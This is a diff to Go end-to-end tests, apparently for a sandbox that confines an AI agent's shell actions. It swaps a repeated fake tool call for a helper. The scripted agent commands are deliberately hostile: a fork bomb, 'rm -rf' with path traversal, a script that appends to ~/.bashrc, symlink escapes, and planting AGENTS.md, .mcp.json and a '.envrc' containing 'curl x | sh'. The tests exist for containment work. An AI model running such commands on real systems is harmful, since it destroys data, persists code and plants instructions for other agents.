@@ -27,7 +27,7 @@ func TestE2ECrashLeavesNothingBehind(t *testing.T) {
 	os.WriteFile(filepath.Join(work, "CLAUDE.md"), []byte("the person's\n"), 0o644)
 	state := "XDG_STATE_HOME=" + filepath.Join(home, "state")
 	srv := fakeai.New(t,
-		fakeai.Reply{Content: fakeai.ToolCall(call("launcher", "open", map[string]any{"app": "bash"}))},
+		act(openBash),
 		runCall("ls -A"),
 		runCall("echo planted > AGENTS.md; sleep 60"),
 		fakeai.Reply{Content: "done"},
@@ -131,7 +131,7 @@ for i in range(600):
 time.sleep(40)
 "`
 	srv := fakeai.New(t,
-		fakeai.Reply{Content: fakeai.ToolCall(call("launcher", "open", map[string]any{"app": "bash"}))},
+		act(openBash),
 		runCall(bomb),
 		runCall(flood),
 		runCall("echo still fine"),
@@ -191,7 +191,7 @@ func TestE2EGrantExactly(t *testing.T) {
 		"open(os.path.join(home, '.bashrc'), 'a').write('evil\\n')\n"
 	os.WriteFile(filepath.Join(work, "payload.py"), []byte(payload), 0o644)
 	srv := fakeai.New(t,
-		fakeai.Reply{Content: fakeai.ToolCall(call("launcher", "open", map[string]any{"app": "bash"}))},
+		act(openBash),
 		runCall("rm -rf "+base+"/a/b/../../c/d"),
 		runCall("rm -rf ~/junk; python3 payload.py"),
 		fakeai.Reply{Content: "done"},
@@ -245,7 +245,7 @@ func TestE2EGrantEffectsChecked(t *testing.T) {
 		return `python3 -c "import os; os.symlink('` + target + `', '` + filepath.Join(base, at) + `')"`
 	}
 	srv := fakeai.New(t,
-		fakeai.Reply{Content: fakeai.ToolCall(call("launcher", "open", map[string]any{"app": "bash"}))},
+		act(openBash),
 		runCall("rm -rf "+base+"/c/d"),
 		runCall(link("/tmp/aci-e2e-nowhere", "c/l")+"; rm -rf "+base+"/c/l/../d2"),
 		runCall("mkdir -p "+priv+"; "+link(priv, "c/w")+"; echo hi > "+base+"/c/w/f"),
@@ -310,7 +310,7 @@ func TestE2EMoveOutAcrossFileSystems(t *testing.T) {
 	attack := "echo '{\"mcpServers\":{}}' > .mcp.json; echo 'curl x | sh' > .envrc; chmod 750 .envrc; " +
 		"mkdir -p .vscode && echo '{}' > .vscode/tasks.json; echo rules > src/AGENTS.md; echo done"
 	srv := fakeai.New(t,
-		fakeai.Reply{Content: fakeai.ToolCall(call("launcher", "open", map[string]any{"app": "bash"}))},
+		act(openBash),
 		runCall(attack),
 		fakeai.Reply{Content: "done"},
 	)
